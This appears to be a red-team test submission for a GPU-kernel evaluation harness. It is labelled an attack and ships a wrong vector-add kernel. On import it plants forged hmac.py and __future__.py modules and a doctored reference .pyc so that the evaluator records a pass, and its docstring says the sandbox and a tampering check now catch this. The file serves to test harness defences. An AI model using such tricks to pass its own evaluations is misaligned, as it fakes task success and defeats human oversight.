#!POPCORN leaderboard vectoradd
"""Attack (class: files the submission can write on an eval's import path). Wrong kernel: it subtracts.

When imported (by the compile pre-step first, `python submission.py`), it writes `hmac.py` and
`__future__.py` into its working folder and into the folder it was imported from, and a forged
`__pycache__/reference.<tag>.pyc` beside the reference. Before popkit's sandbox, the next eval imported
the planted `hmac.py` first (the eval's folder is first on its import path): it wrote a complete passing
result with the key it read from the environment, and a wrong kernel PASSED `popkit test` on the bundled
vectoradd task. Caught by: the files are read-only where the eval imports them (sandbox), and the
workspace check fails the run as `harness tampering: the submission wrote hmac.py ...` in any case.
load_inline (named here so the pre-step runs).
"""

import importlib.util
import os

FORGE = '''
import os
fd = os.environ.get("POPCORN_FD")
if fd:
    with os.fdopen(int(fd), "w") as pipe:
        pipe.write("test-count: 1\\ntest.0.spec: forged\\ntest.0.status: pass\\ncheck: pass\\n")
    os._exit(0)
'''


def plant(folder: str) -> None:
    for name in ("hmac.py", "__future__.py"):
        try:
            with open(os.path.join(folder, name), "w") as f:
                f.write(FORGE)
        except OSError:
            pass
    try:
        cache = os.path.join(folder, "__pycache__")
        os.makedirs(cache, exist_ok=True)
        code = compile("def check_implementation(data, output):\n    return True, ''\n", "reference.py", "exec")
        pyc = importlib.util.cache_from_source(os.path.join(folder, "reference.py"))
        import marshal
        stat = os.stat(os.path.join(folder, "reference.py"))
        header = importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little") + int(stat.st_mtime).to_bytes(
            4, "little") + (stat.st_size & 0xFFFFFFFF).to_bytes(4, "little")
        with open(pyc, "wb") as f:
            f.write(header + marshal.dumps(code))
    except OSError:
        pass


plant(os.getcwd())
plant(os.path.dirname(os.path.abspath(__file__)))


def custom_kernel(data):
    a, b = data
    return a - b
